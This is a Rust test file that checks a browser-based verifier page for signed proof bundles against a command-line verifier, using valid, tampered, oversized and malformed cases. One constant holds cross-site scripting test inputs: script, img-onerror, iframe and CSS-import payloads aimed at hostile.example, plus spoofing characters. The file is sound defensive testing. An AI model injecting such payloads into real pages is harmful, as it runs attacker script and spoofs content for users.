//! The page in headless Chromium: `browser.mjs` opens it there and does what a person does, and
//! what it shows must be what `nfa-proof` says here.
//!
//! `NFA_VERIFIER_PAGE` names the page and `NFA_CHROMIUM` the browser; `cargo xtask test --only
//! browser` builds the one and finds the other.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "clippy's exception for tests leaves out their helpers"
)]

use std::path::Path;
use std::process::Command;

use nfa_proof::{
    Bundle, Checkpoint, FieldId, Hasher, Leaf, LeafHeader, LeafKind, LeafProof, MAX_BUNDLE_BYTES,
    MAX_BUNDLE_LEAVES, MemoryTree, Opening, Sha256, Signer, VerifierKey, VerifyPolicy,
};
use serde_json::{Value, json};

/// What each case must lead to, found without this crate's code.
fn expected(file: &[u8], policy: &VerifyPolicy) -> Value {
    let verified = Bundle::from_slice(file).and_then(|bundle| bundle.verify(policy));
    match verified {
        Ok(report) => json!({
            "verdict": "valid", "code": null, "json": serde_json::to_string(&report).unwrap(),
        }),
        Err(error) => json!({
            "verdict": error.category().as_str(), "code": error.code(), "message": error.message(),
        }),
    }
}

fn policy_of(policy: &Value) -> VerifyPolicy {
    let key = |text: &Value| VerifierKey::parse(text.as_str().unwrap()).unwrap();
    let list = |name: &str| policy[name].as_array().cloned().unwrap_or_default();
    let keys = |name: &str| list(name).iter().map(key).collect::<Vec<_>>();
    let required = policy["witnesses_required"].as_u64().unwrap();
    let given = VerifyPolicy::new(keys("log_keys"))
        .with_witnesses(keys("witnesses"), usize::try_from(required).unwrap());
    list("cutoffs").iter().fold(given, |given, cutoff| {
        given.with_cutoff(key(&cutoff["key"]), cutoff["size"].as_u64().unwrap())
    })
}

fn case(name: &str, file: &[u8], policy: &Value, code: &Value) -> (Value, Vec<u8>) {
    let expected = expected(file, &policy_of(policy));
    assert_eq!(&expected["code"], code, "{name}");
    let case = json!({ "name": name, "policy": policy, "expected": expected });
    (case, file.to_vec())
}

/// Every bundle of `docs/vectors`, under its policy.
fn vectors() -> Vec<(Value, Vec<u8>)> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/vectors/bundle.json");
    let vectors: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    let mut cases = Vec::new();
    for list in ["valid", "refused", "tampered"] {
        for vector in vectors[list].as_array().into_iter().flatten() {
            let policy = vector.get("policy").unwrap_or(&vectors["policy"]);
            let name = format!("{list}/{}", vector["name"].as_str().unwrap());
            let file = vector["file"].as_str().unwrap().as_bytes();
            cases.push(case(&name, file, policy, &vector["error"]));
        }
    }
    cases
}

fn flipped(file: &[u8]) -> Vec<u8> {
    // In the text of a salt: still base64, still canonical, and another value.
    let at = file
        .windows(8)
        .position(|bytes| bytes == b"\"salt\":\"")
        .unwrap()
        + 8;
    let mut flipped = file.to_vec();
    flipped[at] ^= 1;
    flipped
}

/// Values that would run, fetch, or pass for the page's own words, if a page let them.
const HOSTILE: [&str; 5] = [
    "<script>window.ran = true; fetch('http://hostile.example/script')</script>",
    "<img src=http://hostile.example/image onerror=\"window.ran = true\">",
    "</pre></details><h2 id=headline>Valid</h2><iframe src=http://hostile.example/frame></iframe>",
    "{{script}}\u{202e}dilav\u{202c} \u{200b}\u{7}",
    "<style>@import url(http://hostile.example/style); body { display: none }</style>",
];

fn hostile() -> (Value, Vec<u8>) {
    let fields = [
        FieldId::PROMPT,
        FieldId::RESPONSE,
        FieldId::MODEL,
        FieldId::USER,
        FieldId::PROVIDER,
    ];
    let openings: Vec<Opening> = fields
        .iter()
        .zip(HOSTILE)
        .map(|(field, value)| Opening::new(*field, [7; 32], value))
        .collect();
    let header = LeafHeader {
        kind: LeafKind::Interaction,
        agent: [1; 16],
        session: [2; 16],
        run: [3; 16],
        sequence: 0,
        time_ms: 1_767_225_600_000,
        parent: None,
    };
    let leaf = Leaf::new(header, openings.iter().map(Opening::commitment).collect()).unwrap();
    let mut tree = MemoryTree::<Sha256>::new();
    let index = tree.append(Sha256::leaf(&leaf.encode())).unwrap();
    let signer = Signer::from_seed("example.org/hostile", &[9; 32]).unwrap();
    let checkpoint = Checkpoint::new::<Sha256>("example.org/hostile", 1, tree.root()).unwrap();
    let proof = LeafProof {
        disclosed: openings,
        ..LeafProof::new(&leaf, index, tree.inclusion_proof(index, 1).unwrap())
    };
    let bundle = Bundle::new(checkpoint.sign(&signer).unwrap(), vec![proof]).unwrap();
    let policy = json!({
        "log_keys": [signer.verifier_key().to_string()], "witnesses": [], "witnesses_required": 0,
    });
    case("hostile", &bundle.to_vec().unwrap(), &policy, &Value::Null)
}

/// As many leaves as a bundle may have, each with a value of some length.
fn huge() -> (Value, Vec<u8>) {
    let mut tree = MemoryTree::<Sha256>::new();
    let mut leaves = Vec::new();
    for number in 0..MAX_BUNDLE_LEAVES as u64 {
        let value = format!("value {number} {}", "x".repeat(4000));
        let opening = Opening::new(FieldId::PROMPT, [7; 32], value);
        let header = LeafHeader {
            kind: LeafKind::Interaction,
            agent: [1; 16],
            session: [2; 16],
            run: [3; 16],
            sequence: number,
            time_ms: 1_767_225_600_000,
            parent: None,
        };
        let leaf = Leaf::new(header, vec![opening.commitment()]).unwrap();
        tree.append(Sha256::leaf(&leaf.encode())).unwrap();
        leaves.push((leaf, opening));
    }
    let signer = Signer::from_seed("example.org/huge", &[9; 32]).unwrap();
    let size = tree.size();
    let checkpoint = Checkpoint::new::<Sha256>("example.org/huge", size, tree.root()).unwrap();
    let prove = |((leaf, opening), index): ((Leaf, Opening), u64)| LeafProof {
        disclosed: vec![opening],
        ..LeafProof::new(&leaf, index, tree.inclusion_proof(index, size).unwrap())
    };
    let proofs = leaves.into_iter().zip(0..).map(prove).collect();
    let bundle = Bundle::new(checkpoint.sign(&signer).unwrap(), proofs).unwrap();
    let policy = json!({
        "log_keys": [signer.verifier_key().to_string()], "witnesses": [], "witnesses_required": 0,
    });
    case("huge", &bundle.to_vec().unwrap(), &policy, &Value::Null)
}

#[test]
fn the_page_says_in_a_browser_what_the_verifier_says_here() {
    let page = std::env::var_os("NFA_VERIFIER_PAGE");
    let chromium = std::env::var_os("NFA_CHROMIUM");
    let (Some(page), Some(chromium)) = (page, chromium) else {
        println!("skipped: NFA_VERIFIER_PAGE or NFA_CHROMIUM is unset; see the top of this file");
        return;
    };
    let mut cases = vectors();
    let of = |name: &str| cases.iter().find(|(case, _)| case["name"] == name).cloned();
    let (shown, file) = of("valid/shown").expect("the vectors have it");
    let policy = &shown["policy"];
    let large = vec![b' '; MAX_BUNDLE_BYTES + 1];
    let one_too_many = json!({
        "log_keys": policy["log_keys"], "witnesses": policy["witnesses"], "witnesses_required": 3,
    });
    cases.extend([
        case(
            "flipped",
            &flipped(&file),
            policy,
            &json!("commitment_mismatch"),
        ),
        case("unmet", &file, &one_too_many, &json!("witnesses_missing")),
        case(
            "not text",
            &[0xff, 0x00, 0xfe],
            policy,
            &json!("bundle_json"),
        ),
        case("empty", b"", policy, &json!("bundle_json")),
        case("too large", &large, policy, &json!("bundle_too_large")),
        hostile(),
        huge(),
    ]);

    let folder = tempfile::tempdir().unwrap();
    let mut listed = Vec::new();
    for (number, (mut case, file)) in cases.into_iter().enumerate() {
        let path = folder.path().join(format!("{number}.json"));
        std::fs::write(&path, file).unwrap();
        case["path"] = json!(path);
        listed.push(case);
    }
    let task = folder.path().join("task.json");
    let task_json = json!({
        "page": page.to_str().unwrap(), "chromium": chromium.to_str().unwrap(),
        "profile": folder.path().join("profile"), "hostile": HOSTILE, "leaves": MAX_BUNDLE_LEAVES,
        "cases": listed,
    });
    std::fs::write(&task, task_json.to_string()).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser.mjs");
    let ended = Command::new("node").arg(script).arg(&task).status();
    assert!(ended.expect("Node runs").success(), "see above");
}

/// The error is the one that the command line prints, but for the file's name.
#[test]
fn an_error_has_the_form_of_the_command_lines() {
    let mut verdicts = Vec::new();
    for (case, file) in vectors().into_iter().chain([hostile()]) {
        let answer = nfa_proof_web::verify(&file, case["policy"].to_string().as_bytes());
        let expected = &case["expected"];
        verdicts.push(expected["verdict"].as_str().unwrap().to_owned());
        if expected["verdict"] == "valid" {
            assert_eq!(expected["json"], answer.as_str(), "{}", case["name"]);
            continue;
        }
        let (code, message, verdict) = (
            &expected["code"],
            &expected["message"],
            &expected["verdict"],
        );
        let error = format!(
            r#"{{"component":"proof","category":"input","code":{code},"message":{message},"retryable":false,"details":{{"verdict":{verdict}}}}}"#
        );
        assert_eq!(answer, error, "{}", case["name"]);
    }
    for verdict in ["valid", "policy_unmet", "invalid", "unreadable"] {
        assert!(verdicts.iter().any(|found| found == verdict), "{verdict}");
    }
}

#[test]
fn a_wrong_policy_is_no_verdict_on_the_bundle() {
    let (case, file) = vectors().swap_remove(0);
    let key = case["policy"]["log_keys"][0].as_str().unwrap();
    let code = |policy: Value| {
        let answer = nfa_proof_web::verify(&file, policy.to_string().as_bytes());
        let answer: Value = serde_json::from_str(&answer).unwrap();
        assert!(answer.get("details").is_none() || answer["code"] == "witnesses_missing");
        answer["code"].as_str().map(str::to_owned)
    };
    let refused = [
        (json!([]), "policy_malformed"),
        (json!({ "log_key": key }), "policy_malformed"),
        (
            json!({ "log_keys": [key], "witnesses_required": -1 }),
            "policy_malformed",
        ),
        (json!({ "log_keys": [key, "x"] }), "key_malformed"),
        (
            json!({ "log_keys": [key], "witnesses": [""] }),
            "key_malformed",
        ),
        (
            json!({ "log_keys": [key], "cutoffs": [{ "key": "x", "size": 1 }] }),
            "key_malformed",
        ),
    ];
    for (policy, expected) in refused {
        assert_eq!(code(policy.clone()).as_deref(), Some(expected), "{policy}");
    }
    // Controls: a key with spaces around it, and every witness when none is counted.
    assert_eq!(code(json!({ "log_keys": [format!(" {key}\n")] })), None);
    let all = &case["policy"]["witnesses"];
    assert_eq!(code(json!({ "log_keys": [key], "witnesses": all })), None);
    let more = json!({ "log_keys": [key], "witnesses": all, "witnesses_required": u32::MAX });
    assert_eq!(code(more).as_deref(), Some("witnesses_missing"));
}
